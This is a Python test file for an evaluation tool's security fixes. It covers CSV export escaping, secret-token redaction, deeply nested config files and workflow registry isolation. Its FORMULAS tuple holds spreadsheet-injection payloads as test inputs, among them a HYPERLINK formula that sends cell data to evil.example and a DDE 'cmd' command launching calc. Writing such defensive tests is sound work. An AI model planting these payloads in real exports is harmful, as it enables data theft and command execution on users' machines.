"""Smaller holes a probe found: spreadsheet formulas in the exported CSVs, a token echoed in hex or upper case,
files nested thousands deep, and workflow names an endpoint offers growing the registry of a process that
outlives the run (the dashboard's)."""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys

import httpx
import pytest

from vton_eval import workflows
from vton_eval.access import AccessConfigError, load_config
from vton_eval.analytics.overview import overview, overview_csv
from vton_eval.datasets import DatasetError, load_dataset
from vton_eval.preferences import export_picks_csv, record_preference
from vton_eval.reviews import export_csv, save_verdict
from vton_eval.runner import RunSettings, create_run, execute_run
from vton_eval.secrets import redact
from vton_eval.services.profiles import ProfileError, load_profile

from .helpers.paths import REPO, SAMPLE
from .helpers.seed import record_sample_run
from .helpers.servers import free_port
from .helpers.wait import wait_until

FORMULAS = ("=HYPERLINK(\"http://evil.example?\"&A1,\"click\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1")


def test_the_exported_csvs_neutralise_cells_that_would_start_a_formula(db):
    from vton_eval.access import local_actor

    run_id = record_sample_run(db, FORMULAS[2])  # a label
    db.write(lambda w: w.execute("UPDATE cases SET tags = ? WHERE run_id = ?", [";".join(FORMULAS[1::2]), run_id]))
    save_verdict(db, run_id, "top-01", 1, local_actor(FORMULAS[3]), "fail", note=FORMULAS[0])
    verdicts = list(csv.reader(io.StringIO(export_csv(db, run_id), newline="")))
    cells = [c for row in verdicts[1:] for c in row]
    assert f"'{FORMULAS[3]}" in cells and f"'{FORMULAS[0]}" in cells  # the reviewer's name, the note
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    page = list(csv.reader(io.StringIO(overview_csv(run_id, overview(db, run_id)).decode("utf-8"), newline="")))
    cells = [c for row in page[1:] for c in row]
    assert any(c.startswith(f"'{FORMULAS[1]}") for c in cells)  # a tag, as a heatmap key
    assert FORMULAS[2] not in cells  # (the run's label: quoted away if it is there at all)
    other = record_sample_run(db, FORMULAS[0])
    record_preference(db, run_id, other, "top-01", 1, "top", local_actor(FORMULAS[3]), "left", run_id)
    picks = list(csv.reader(io.StringIO(export_picks_csv(db, "sample"), newline="")))
    cells = [c for row in picks[1:] for c in row]
    assert f"'{FORMULAS[0]}" in cells and f"'{FORMULAS[2]}" in cells and f"'{FORMULAS[3]}" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    numbers = [c for row in page[1:] for c in row[4:]]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [c for c in cells if c.startswith("-") and c not in numbers]  # a negative number stays a number


def test_the_token_is_scrubbed_in_hex_and_in_any_case(monkeypatch):
    token = "hf_SeCrEtToKeN0123456789abcdef"
    monkeypatch.setenv("HF_TOKEN", token)
    for echoed in (token.upper(), token.lower(), token.encode().hex(), token.encode().hex().upper(),
                   "\\x" + "\\x".join(f"{b:02x}" for b in token.encode()), token.swapcase()):
        cleaned = redact(f"the server said: {echoed} (end)")
        assert echoed not in cleaned and "(end)" in cleaned, echoed
        assert token.encode().hex()[6:40] not in cleaned.lower()


def test_files_nested_thousands_deep_are_a_clear_error_not_a_traceback(tmp_path, monkeypatch):
    deep = "a = " + "[" * 30_000 + "]" * 30_000 + "\n"
    profile = tmp_path / "deep.toml"
    profile.write_text(deep, encoding="utf-8")
    with pytest.raises(ProfileError, match="nested too deeply"):
        load_profile(str(profile))
    run = subprocess.run([sys.executable, "-m", "vton_eval", "run", "--dataset", str(SAMPLE), "--endpoint",
                          "http://127.0.0.1:9", "--profile", str(profile), "--db", str(tmp_path / "r.duckdb")],
                         cwd=REPO, capture_output=True, text=True, timeout=60)
    assert run.returncode == 1 and "nested too deeply" in run.stderr and "Traceback" not in run.stderr
    roles = tmp_path / "access.toml"
    roles.write_text("[roles]\n" + deep, encoding="utf-8")
    with pytest.raises(AccessConfigError, match="nested too deeply"):
        load_config(roles)
    folder = tmp_path / "ds"
    shutil.copytree(SAMPLE, folder)
    (folder / "dataset.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    with pytest.raises(DatasetError, match="nested too deeply"):
        load_dataset(folder)


def test_workflows_an_endpoint_offers_are_known_to_that_run_only(db, tmp_path):
    """The endpoint runs in its own process (as a Space would), the run in this one, as the dashboard's Try one
    pair does: after the run, the registry of this process is what it was."""
    root = tmp_path / "ds"
    shutil.copytree(SAMPLE, root)
    with open(root / "manifest.csv", "a", encoding="utf-8") as manifest:
        manifest.write("swim-01,swimwear,persons/figure_02.png,products/top_tank_orange.png,,,drawn\n")
    port = free_port()
    sandbox = subprocess.Popen([sys.executable, "-m", "vton_eval", "sandbox", "--port", str(port), "--workflows",
                                "top,dress,swimwear"], cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                               env={**os.environ, "GRADIO_ANALYTICS_ENABLED": "False"})
    url = f"http://127.0.0.1:{port}"
    try:
        def up() -> bool:
            assert sandbox.poll() is None, "the sandbox exited"
            try:
                return httpx.get(f"{url}/config", timeout=2).status_code == 200
            except httpx.HTTPError:
                return False

        wait_until(up, what="the sandbox process", timeout=120, interval=0.2)
        before = workflows.names()
        run_id = create_run(db, RunSettings(dataset=str(root), endpoint=url, pairs=["swim-01", "top-01"], retries=0))
        assert not workflows.is_known("swimwear")
        report = execute_run(db, run_id)
        assert report.status == "finished"
        with db.connect(read_only=True) as con:
            sent = dict(con.execute("SELECT pair_id, output_path FROM results WHERE run_id = ?", [run_id]).fetchall())
        assert set(sent) == {"swim-01", "top-01"} and all(sent.values())  # the new workflow was sent, in its run
        assert workflows.names() == before and not workflows.is_known("swimwear")
    finally:
        sandbox.terminate()
        sandbox.wait(timeout=30)
